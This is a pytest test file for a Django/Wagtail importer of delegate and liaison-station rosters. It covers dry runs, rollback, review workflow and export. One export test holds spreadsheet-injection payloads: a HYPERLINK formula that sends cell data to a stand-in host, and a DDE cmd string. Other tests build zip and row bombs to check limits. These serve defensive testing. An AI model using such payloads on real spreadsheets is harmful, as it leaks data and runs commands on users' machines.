"""Roster import: dry run, apply, idempotence, per-row Chinese errors, all-or-nothing."""

import io
import re
import time
import zipfile

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core.management import CommandError, call_command
from wagtail.models import Revision

from delegates.importer import ImportFileError, RosterImporter, import_roster, read_tables
from delegates.models import DelegatePage, ReceptionSession, StationMembership, StationPage
from home.roles import EDITORS, REVIEWERS

STATIONS = [
    [
        "站点编号",
        "名称",
        "类型",
        "街道乡镇",
        "地址",
        "纬度",
        "经度",
        "开放时间",
        "站点电话",
        "站长",
        "联络员",
        "联络员电话",
        "覆盖社区",
    ],
    [
        "JB-T-01",
        "幸福社区人大代表联络站",
        "人大代表联络站",
        "东城街道",
        "人民路1号",
        30.8712,
        120.0935,
        "工作日 9:00-17:00",
        "0572-2345678",
        "张站长",
        "王联络",
        "13812345678",
        "幸福社区、和平社区",
    ],
    [
        "JB-T-02",
        "青石镇人大代表之家",
        "人大代表之家",
        "青石镇",
        "青石路8号",
        30.9051,
        120.0213,
        "",
        "",
        "",
        "李联络",
        "13912345678",
        "青石村",
    ],
]
DELEGATES = [
    [
        "代表编号",
        "姓名",
        "性别",
        "代表层级",
        "届次",
        "选区",
        "当选日期",
        "代表团",
        "专业小组",
        "单位及职务",
        "联系电话",
        "简介",
    ],
    [
        "D-0001",
        "张子平",
        "男",
        "区县、市",
        "第十六届",
        "第3选区",
        "2021-12-20",
        "东城街道代表团",
        "",
        "幸福社区党委书记",
        "",
        "",
    ],
    [
        "D-0002",
        "李秀兰",
        "女",
        "乡镇",
        "第十八届",
        "",
        "2021-12-10",
        "青石镇代表团",
        "",
        "青石村村委会主任",
        "",
        "",
    ],
]
MEMBERS = [
    ["站点编号", "代表编号", "站内职务"],
    ["JB-T-01", "D-0001", "站长"],
    ["JB-T-02", "D-0002", "进站代表"],
]
RECEPTIONS = [
    ["站点编号", "开始时间", "结束时间", "地点", "接访代表", "主题", "联络员", "联络电话"],
    ["JB-T-01", "2030-03-15 09:00", "2030-03-15 11:30", "", "D-0001", "老旧小区改造", "", ""],
]


def workbook(**overrides):
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in [
        ("联络站", STATIONS),
        ("代表", DELEGATES),
        ("进站代表", MEMBERS),
        ("接访安排", RECEPTIONS),
    ]:
        sheet = book.create_sheet(name)
        for row in overrides.get(name, rows):
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows, encoding="utf-8-sig"):
    import csv

    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode(encoding)


@pytest.fixture
def indexes(station_index, delegate_index, streets):
    return station_index, delegate_index


@pytest.fixture
def publisher(django_user_model):
    """Imports as someone who may publish (a superuser here; a reviewer in practice)."""
    return django_user_model.objects.create_superuser("office", "office@example.org", "x")


def counts():
    return (
        StationPage.objects.count(),
        DelegatePage.objects.count(),
        StationMembership.objects.count(),
        ReceptionSession.objects.count(),
    )


@pytest.mark.django_db
def test_dry_run_reports_and_writes_nothing(indexes):
    report = import_roster(workbook(), "roster.xlsx", apply=False)
    assert report.ok and not report.applied
    assert report.counts["stations"]["created"] == 2
    assert report.counts["receptions"]["created"] == 1
    assert "新增联络站“幸福社区人大代表联络站”" in [a.message for a in report.actions]
    assert counts() == (0, 0, 0, 0)
    assert not Group.objects.filter(name__startswith="联络员：").exists()


@pytest.mark.django_db
def test_apply_creates_everything_published(indexes, client, publisher):
    report = import_roster(workbook(), "roster.xlsx", apply=True, user=publisher)
    assert report.ok and report.applied, report.errors
    assert counts() == (2, 2, 2, 1)
    station = StationPage.objects.get(code="JB-T-01")
    assert station.live and station.latitude == pytest.approx(30.8712)
    assert [c.name for c in station.communities.all()] == ["幸福社区", "和平社区"]
    zhang = DelegatePage.objects.get(code="D-0001")
    assert sorted(r.level for r in zhang.roles.all()) == ["city", "county"]
    assert zhang.delegation_group.name == "东城街道代表团"
    session = ReceptionSession.objects.get()
    assert list(session.delegates.values_list("title", flat=True)) == ["张子平"]
    assert session.announced_at is not None
    assert StationMembership.objects.get(delegate=zhang).role == "head"
    # Publishing made the liaison group for each station.
    assert Group.objects.filter(name__startswith="联络员：").count() == 2
    html = client.get(station.url).content.decode()
    assert "张子平" in html and "老旧小区改造" in html


@pytest.mark.django_db
def test_reimporting_the_same_file_changes_nothing(indexes, publisher):
    data = workbook()
    import_roster(data, "roster.xlsx", apply=True, user=publisher)
    revisions = Revision.objects.count()
    before = counts()
    report = import_roster(data, "roster.xlsx", apply=True, user=publisher)
    assert report.ok and report.changes == 0
    assert report.counts["stations"] == {"created": 0, "updated": 0, "unchanged": 2}
    assert counts() == before
    assert Revision.objects.count() == revisions


@pytest.mark.django_db
def test_changed_row_updates_in_place(indexes, publisher):
    import_roster(workbook(), "roster.xlsx", apply=True, user=publisher)
    stations = [row[:] for row in STATIONS]
    stations[1][11] = "13700001111"
    report = import_roster(
        workbook(**{"联络站": stations}), "roster.xlsx", apply=True, user=publisher
    )
    assert report.counts["stations"] == {"created": 0, "updated": 1, "unchanged": 1}
    assert StationPage.objects.get(code="JB-T-01").liaison_phone == "13700001111"
    assert StationPage.objects.count() == 2


@pytest.mark.django_db
def test_bad_rows_are_reported_in_chinese_and_nothing_is_written(indexes, publisher):
    stations = [row[:] for row in STATIONS]
    stations[1][5] = 95.3  # latitude out of range
    stations[2][11] = "12345"  # hmm: a 5-digit service number is valid…
    stations[2][11] = "1391234"  # …this is not
    stations.append(["JB-T-03", "某站", "", "不存在街道", "某路", 30.1, 120.1] + [""] * 6)
    delegates = [row[:] for row in DELEGATES] + [DELEGATES[1][:]]  # duplicate delegate
    members = [row[:] for row in MEMBERS] + [["JB-X-99", "D-0001", ""]]
    receptions = [row[:] for row in RECEPTIONS] + [
        ["JB-T-01", "2030-03-16 11:00", "2030-03-16 09:00", "", "", "", "", ""]
    ]
    data = workbook(
        **{"联络站": stations, "代表": delegates, "进站代表": members, "接访安排": receptions}
    )
    report = import_roster(data, "roster.xlsx", apply=True, user=publisher)
    assert not report.ok and not report.applied
    messages = {(e.table, e.row): e.message for e in report.errors}
    assert "纬度 95.3 超出范围" in messages[("联络站", 2)]
    assert "联络员电话“1391234”格式不正确" in messages[("联络站", 3)]
    assert "未知的街道乡镇“不存在街道”" in messages[("联络站", 4)]
    assert "与第 2 行重复（重复的代表：代表编号 D-0001）" in messages[("代表", 4)]
    assert "未知的站点编号“JB-X-99”" in messages[("进站代表", 4)]
    assert "结束时间必须晚于开始时间" in messages[("接访安排", 3)]
    assert counts() == (0, 0, 0, 0)


@pytest.mark.django_db
def test_failure_during_apply_rolls_everything_back(indexes, monkeypatch, publisher):
    publish = Revision.publish
    calls = []

    def explode(revision, *args, **kwargs):
        calls.append(revision)
        if len(calls) == 3:  # after pages were created and two of them published
            raise RuntimeError("database went away")
        return publish(revision, *args, **kwargs)

    monkeypatch.setattr(Revision, "publish", explode)
    with pytest.raises(RuntimeError):
        import_roster(workbook(), "roster.xlsx", apply=True, user=publisher)
    assert counts() == (0, 0, 0, 0)
    assert not Group.objects.filter(name__startswith="联络员：").exists()


@pytest.mark.django_db
def test_csv_files_detected_by_header_including_gbk(indexes):
    tables = read_tables(csv_bytes(STATIONS, "gb18030"), "stations.csv")
    assert tables[0].kind == "stations"
    members = read_tables(csv_bytes(MEMBERS), "members.csv")
    report = RosterImporter(tables + members).run(apply=False)
    # Memberships refer to delegates that are neither in the site nor in these files.
    assert [e.message for e in report.errors] == [
        "未知的代表编号“D-0001”",
        "未知的代表编号“D-0002”",
    ]


@pytest.mark.django_db
def test_management_command_dry_run_and_apply(indexes, tmp_path, capsys, publisher):
    path = tmp_path / "roster.xlsx"
    path.write_bytes(workbook())
    call_command("import_roster", str(path), "--dry-run")
    assert "试运行：将有 7 项变更" in capsys.readouterr().out
    assert counts() == (0, 0, 0, 0)
    call_command("import_roster", str(path), "--apply", "--user", publisher.username)
    assert "已导入，共 7 项变更" in capsys.readouterr().out
    call_command("import_roster", str(path), "--apply", "--user", publisher.username)
    assert "已导入，共 0 项变更" in capsys.readouterr().out
    with pytest.raises(CommandError, match="找不到用户：nobody"):
        call_command("import_roster", str(path), "--apply", "--user", "nobody")

    bad = tmp_path / "bad.csv"
    bad.write_bytes(csv_bytes([STATIONS[0], ["JB-T-09", "坏站", "", "东城街道", "路", "abc", 1]]))
    with pytest.raises(CommandError, match="共 1 处错误，未导入任何数据"):
        call_command("import_roster", str(bad), "--apply")
    assert "纬度“abc”不是数字" in capsys.readouterr().err


@pytest.mark.django_db
def test_admin_view_uploads_dry_runs_then_applies(indexes, admin_client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("roster.xlsx", workbook())
    response = admin_client.post("/admin/delegates/import/", {"file": upload})
    html = response.content.decode()
    assert response.status_code == 200
    assert "试运行结果" in html and "新增联络站“幸福社区人大代表联络站”" in html
    assert counts() == (0, 0, 0, 0)
    token = response.context["token"]
    response = admin_client.post("/admin/delegates/import/", {"token": token, "suffix": ".xlsx"})
    assert "导入结果" in response.content.decode()
    assert counts() == (2, 2, 2, 1)

    bad = SimpleUploadedFile(
        "bad.csv", csv_bytes([STATIONS[0], ["JB-T-09", "坏站", "", "东城街道", "路", 30, 500]])
    )
    html = admin_client.post("/admin/delegates/import/", {"file": bad}).content.decode()
    assert "经度 500.0 超出范围" in html and "确认导入" not in html


@pytest.mark.django_db
def test_admin_view_needs_the_import_permission(indexes, client, django_user_model):
    from django.contrib.auth.models import Permission

    user = django_user_model.objects.create_user("someone", password="x")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    assert client.get("/admin/delegates/import/").status_code in (302, 403)
    editor = django_user_model.objects.create_user("editor", password="x")
    editor.groups.add(Group.objects.get(name="编辑"))
    client.force_login(editor)
    assert client.get("/admin/delegates/import/").status_code == 200


@pytest.mark.django_db
def test_export_round_trips_through_import(indexes, admin_client, make_session, publisher):
    from delegates.exporter import export_xlsx

    import_roster(workbook(), "roster.xlsx", apply=True, user=publisher)
    # A delegate holding two levels with different terms, and a session made in the admin.
    zhang = DelegatePage.objects.get(code="D-0001")
    make_session(StationPage.objects.get(code="JB-T-02"), delegates=[zhang])
    exported = export_xlsx()
    sheets = {t.kind: t for t in read_tables(exported, "roster.xlsx")}
    assert [r[1]["levels"] for r in sheets["delegates"].rows] == [
        "区县:第十六届、市:第十六届",
        "乡镇:第十八届",
    ]
    report = import_roster(exported, "roster.xlsx", apply=True, user=publisher)
    assert report.ok and report.changes == 0, report.actions
    assert sum(c["unchanged"] for c in report.counts.values()) == 2 + 2 + 2 + 2

    response = admin_client.get("/admin/delegates/export/")
    assert response["Content-Disposition"] == 'attachment; filename="roster.xlsx"'
    assert import_roster(response.content, "roster.xlsx").changes == 0


@pytest.mark.django_db
def test_export_writes_formula_like_text_as_text(indexes, publisher):
    """A title such as =HYPERLINK(...) is exported as a text cell, not as a formula that Excel
    would run, and imports back unchanged."""
    import zipfile

    from delegates.exporter import export_xlsx

    formula = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
    station = list(STATIONS[1])
    station[1], station[4], station[10] = formula, "+1+cmd|' /C calc'!A0", "@SUM(1)"
    report = import_roster(
        csv_bytes([STATIONS[0], station]), "stations.csv", apply=True, user=publisher
    )
    assert report.ok, report.errors
    assert StationPage.objects.get(code="JB-T-01").title == formula

    exported = export_xlsx()
    sheet = openpyxl.load_workbook(io.BytesIO(exported))["联络站"]
    cells = {sheet.cell(1, col).value: sheet.cell(2, col) for col in range(1, sheet.max_column + 1)}
    for header, value in [("名称", formula), ("地址", station[4]), ("联络员", "@SUM(1)")]:
        assert cells[header].value == value
        assert cells[header].data_type == "s", header
    assert cells["纬度"].data_type == "n" and cells["纬度"].value == 30.8712
    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)

    tables = {t.kind: t for t in read_tables(exported, "roster.xlsx")}
    assert tables["stations"].rows[0][1]["title"] == formula
    report = import_roster(exported, "roster.xlsx", apply=True, user=publisher)
    assert report.ok and report.changes == 0, report.actions


@pytest.mark.django_db
def test_levels_may_carry_their_own_term(indexes, publisher):
    delegates = [
        DELEGATES[0],
        [
            "D-0009",
            "赵丽华",
            "女",
            "区县:第十六届、乡镇：第十八届",
            "第十六届",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
        ],
    ]
    import_roster(
        workbook(**{"代表": delegates, "进站代表": [MEMBERS[0]], "接访安排": [RECEPTIONS[0]]}),
        "r.xlsx",
        apply=True,
        user=publisher,
    )
    roles = DelegatePage.objects.get(code="D-0009").roles.order_by("sort_order")
    assert [(r.level, r.term) for r in roles] == [("county", "第十六届"), ("township", "第十八届")]


# -- spreadsheet bombs and huge reports ---------------------------------------------------


def xlsx_with_rows(rows_xml: str, last_row: int) -> bytes:
    """A real workbook (one sheet 联络站) whose sheet XML is replaced by `rows_xml`."""
    book = openpyxl.Workbook()
    book.active.title = "联络站"
    book.active.append(["站点编号"])
    source = io.BytesIO()
    book.save(source)
    out = io.BytesIO()
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                xml = data.decode()
                xml = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="A1:M{last_row}"', xml)
                xml = re.sub(r"<sheetData>.*</sheetData>|<sheetData ?/>", "<sheetData/>", xml)
                data = xml.replace("<sheetData/>", f"<sheetData>{rows_xml}</sheetData>").encode()
            dst.writestr(info.filename, data)
    return out.getvalue()


def header_xml():
    cells = "".join(
        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
        for i, h in enumerate(STATIONS[0])
    )
    return f'<row r="1">{cells}</row>'


@pytest.mark.django_db
def test_xlsx_row_bomb_is_refused_quickly_and_nothing_is_written(indexes, admin_client):
    """300,000 rows in a 1.5 MB file (it expands only ~14 times, so the archive check lets it
    through): reading stops at the row limit with a clear message, and nothing is written."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>JB-{n}</t></is></c></row>'
        for n in range(2, 300_002)
    )
    bomb = xlsx_with_rows(header_xml() + rows, 300_001)
    assert len(bomb) < 5 * 1024 * 1024  # within the admin's upload limit
    started = time.monotonic()
    with pytest.raises(ImportFileError, match="文件行数超过上限 20000 行"):
        import_roster(bomb, "roster.xlsx", apply=True)
    assert time.monotonic() - started < 10
    assert counts() == (0, 0, 0, 0)

    response = admin_client.post(
        "/admin/delegates/import/", {"file": SimpleUploadedFile("roster.xlsx", bomb)}
    )
    assert "文件行数超过上限 20000 行" in response.content.decode()
    assert "token" not in response.context
    assert counts() == (0, 0, 0, 0)


@pytest.mark.django_db
def test_declared_sheet_size_does_not_pad_or_cut_rows(indexes):
    """Rows far apart (1 and 1,048,576) do not turn into a million empty rows, and a
    dimension that claims one row does not hide the rows the sheet holds."""
    far = (
        header_xml() + '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    )
    with pytest.raises(ImportFileError, match="文件行数超过上限"):
        read_tables(xlsx_with_rows(far, 1048576), "roster.xlsx")
    row = "".join(
        f'<c r="{chr(65 + i)}2" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(STATIONS[1])
    )
    tables = read_tables(xlsx_with_rows(header_xml() + f'<row r="2">{row}</row>', 1), "r.xlsx")
    assert [r[1]["code"] for r in tables[0].rows] == ["JB-T-01"]


@pytest.mark.django_db
def test_xlsx_that_expands_too_far_is_refused_before_parsing(indexes, settings, monkeypatch):
    def must_not_parse(*args, **kwargs):
        raise AssertionError("the workbook was parsed")

    monkeypatch.setattr(openpyxl, "load_workbook", must_not_parse)
    # A million identical rows: 50 MB of XML packed into ~150 KB.
    dense = header_xml() + '<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 1_000_000
    started = time.monotonic()
    with pytest.raises(ImportFileError, match="压缩比异常"):
        import_roster(xlsx_with_rows(dense, 1_000_001), "roster.xlsx", apply=True)
    assert time.monotonic() - started < 5
    settings.ROSTER_IMPORT_MAX_UNCOMPRESSED_MB = 1
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><v>{n * 7919}</v></c></row>' for n in range(2, 40_000)
    )
    with pytest.raises(ImportFileError, match="解压后超过 1 MB"):
        read_tables(xlsx_with_rows(header_xml() + rows, 40_000), "roster.xlsx")
    with pytest.raises(ImportFileError, match="无法打开 Excel 文件"):
        read_tables(b"PK\x03\x04 not really a zip", "roster.xlsx")
    assert counts() == (0, 0, 0, 0)


@pytest.mark.django_db
def test_row_limit_counts_the_whole_file(indexes, settings):
    settings.ROSTER_IMPORT_MAX_ROWS = 7  # the workbook holds 2 + 2 + 2 + 1 data rows
    assert import_roster(workbook(), "roster.xlsx").ok
    settings.ROSTER_IMPORT_MAX_ROWS = 6
    with pytest.raises(ImportFileError, match="文件行数超过上限 6 行"):
        import_roster(workbook(), "roster.xlsx")
    settings.ROSTER_IMPORT_MAX_ROWS = 1
    with pytest.raises(ImportFileError, match="文件行数超过上限 1 行"):
        read_tables(csv_bytes(STATIONS), "stations.csv")


@pytest.mark.django_db
def test_error_list_is_capped(indexes, settings, admin_client, tmp_path, capsys):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.ROSTER_IMPORT_MAX_ERRORS = 3
    bad = [STATIONS[0]] + [
        [f"JB-B-{n:02d}", "坏站", "", "东城街道", "路", 95, 120] + [""] * 6 for n in range(10)
    ]
    report = import_roster(csv_bytes(bad), "bad.csv", apply=True)
    assert not report.ok and not report.applied
    assert len(report.errors) == 3 and report.errors_omitted == 7 and report.error_count == 10
    assert [e.row for e in report.errors] == [2, 3, 4]

    html = admin_client.post(
        "/admin/delegates/import/", {"file": SimpleUploadedFile("bad.csv", csv_bytes(bad))}
    ).content.decode()
    assert "发现 10 处错误" in html and "另有 7 处错误未列出" in html
    assert html.count("超出范围") == 3

    path = tmp_path / "bad.csv"
    path.write_bytes(csv_bytes(bad))
    with pytest.raises(CommandError, match="共 10 处错误，未导入任何数据"):
        call_command("import_roster", str(path), "--apply")
    err = capsys.readouterr().err
    assert err.count("超出范围") == 3 and "另有 7 处错误未列出" in err
    assert counts() == (0, 0, 0, 0)


# Imports go through review like an edit in the admin -------------------------------------


@pytest.fixture
def imported(indexes, publisher):
    report = import_roster(workbook(), "roster.xlsx", apply=True, user=publisher)
    assert report.ok and not report.held
    return publisher


@pytest.fixture
def editor(django_user_model):
    user = django_user_model.objects.create_user("editor", password="x")
    user.groups.add(Group.objects.get(name=EDITORS))
    return user


def changed_file():
    """JB-T-01 gets a new liaison phone and a second reception; D-0002 a new position."""
    stations = [row[:] for row in STATIONS]
    stations[1][11] = "13700001111"
    delegates = [row[:] for row in DELEGATES]
    delegates[2][9] = "青石镇人大主席团成员"
    receptions = [row[:] for row in RECEPTIONS] + [
        ["JB-T-01", "2030-04-15 09:00", "2030-04-15 11:00", "", "D-0001", "养老服务", "", ""]
    ]
    return workbook(**{"联络站": stations, "代表": delegates, "接访安排": receptions})


def held_lines(report):
    return "\n".join(report.held_lines())


@pytest.mark.django_db
@pytest.mark.parametrize("in_workflow", [False, True])
def test_import_leaves_a_page_with_a_pending_draft_alone(imported, editor, in_workflow):
    station = StationPage.objects.get(code="JB-T-01")
    live_revision, published_at = station.live_revision_id, station.last_published_at
    station.opening_hours = "草稿：周末开放"
    draft = station.save_revision(user=editor)
    if in_workflow:
        station.get_workflow().start(station, editor)

    report = import_roster(changed_file(), "roster.xlsx", apply=True, user=imported)
    assert report.ok and report.applied
    assert "联络站“幸福社区人大代表联络站”：有待审核的修改，未发布" in held_lines(report)
    assert report.counts["stations"]["held"] == 1
    assert report.counts["receptions"]["held"] == 1

    station = StationPage.objects.get(code="JB-T-01")
    # Not republished, the live page unchanged, the editor's draft still the latest revision.
    assert station.live_revision_id == live_revision
    assert station.last_published_at == published_at
    assert station.liaison_phone == "13812345678" and station.opening_hours == "工作日 9:00-17:00"
    assert station.latest_revision_id == draft.pk
    assert station.get_latest_revision_as_object().opening_hours == "草稿：周末开放"
    assert station.workflow_in_progress == in_workflow
    assert ReceptionSession.objects.filter(station=station).count() == 1
    # The other pages of the file were imported as usual.
    assert DelegatePage.objects.get(code="D-0002").unit_position == "青石镇人大主席团成员"


@pytest.mark.django_db
def test_import_does_not_republish_an_offline_page(imported, client):
    delegate = DelegatePage.objects.get(code="D-0002")
    delegate.unpublish()

    report = import_roster(changed_file(), "roster.xlsx", apply=True, user=imported)
    assert "代表“李秀兰”：已下线，未重新发布" in held_lines(report)

    delegate = DelegatePage.objects.get(code="D-0002")
    assert not delegate.live
    assert client.get(f"/delegates/{delegate.slug}/").status_code == 404
    assert delegate.unit_position == "青石村村委会主任"  # the offline row is not rewritten…
    # …the change waits as a draft for whoever puts the page back online.
    assert delegate.get_latest_revision_as_object().unit_position == "青石镇人大主席团成员"
    assert delegate.has_unpublished_changes


@pytest.mark.django_db
def test_import_publishes_a_clean_live_page_for_a_publisher(imported, client):
    station = StationPage.objects.get(code="JB-T-01")
    published_at = station.last_published_at

    report = import_roster(changed_file(), "roster.xlsx", apply=True, user=imported)
    assert report.ok and report.held == []

    station = StationPage.objects.get(code="JB-T-01")
    assert station.live and not station.has_unpublished_changes
    assert station.live_revision_id == station.latest_revision_id
    assert station.last_published_at > published_at
    assert station.liaison_phone == "13700001111"
    assert ReceptionSession.objects.filter(station=station).count() == 2
    html = client.get(station.url).content.decode()
    assert "13700001111" in html and "养老服务" in html


@pytest.mark.django_db
def test_an_editor_import_is_submitted_for_review(imported, editor, django_user_model):
    assert editor.has_perm("delegates.import_roster")
    report = import_roster(changed_file(), "roster.xlsx", apply=True, user=editor)
    assert "联络站“幸福社区人大代表联络站”：已提交审核" in held_lines(report)

    station = StationPage.objects.get(code="JB-T-01")
    assert station.liaison_phone == "13812345678"  # live page unchanged until approved
    assert station.workflow_in_progress
    assert ReceptionSession.objects.filter(station=station).count() == 1

    reviewer = django_user_model.objects.create_user("reviewer", password="x")
    reviewer.groups.add(Group.objects.get(name=REVIEWERS))
    task_state = station.current_workflow_task_state
    task_state.task.specific.on_action(task_state, reviewer, "approve")
    station = StationPage.objects.get(code="JB-T-01")
    assert station.liaison_phone == "13700001111"
    assert ReceptionSession.objects.filter(station=station).count() == 2


@pytest.mark.django_db
def test_command_without_user_submits_everything_for_review(indexes, tmp_path, capsys):
    path = tmp_path / "roster.xlsx"
    path.write_bytes(workbook())
    call_command("import_roster", str(path), "--apply")
    out = capsys.readouterr().out
    assert "未发布的页面：" in out and "联络站“幸福社区人大代表联络站”：已提交审核" in out
    assert not StationPage.objects.live().exists() and not DelegatePage.objects.live().exists()
    station = StationPage.objects.get(code="JB-T-01")
    assert station.workflow_in_progress
    draft = station.get_latest_revision_as_object()
    assert [s.topic for s in draft.sessions.all()] == ["老旧小区改造"]
    assert not Group.objects.filter(name__startswith="联络员：").exists()


@pytest.mark.django_db
def test_dry_run_and_admin_report_show_held_pages(imported, editor, admin_client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    station = StationPage.objects.get(code="JB-T-01")
    station.opening_hours = "草稿：周末开放"
    station.save_revision(user=editor)
    revisions = Revision.objects.count()

    report = import_roster(changed_file(), "roster.xlsx", apply=False, user=imported)
    assert "有待审核的修改，未发布" in held_lines(report)
    assert Revision.objects.count() == revisions

    upload = SimpleUploadedFile("roster.xlsx", changed_file())
    html = admin_client.post("/admin/delegates/import/", {"file": upload}).content.decode()
    assert "以下页面将不会发布" in html
    assert "联络站“幸福社区人大代表联络站”：有待审核的修改，未发布" in html
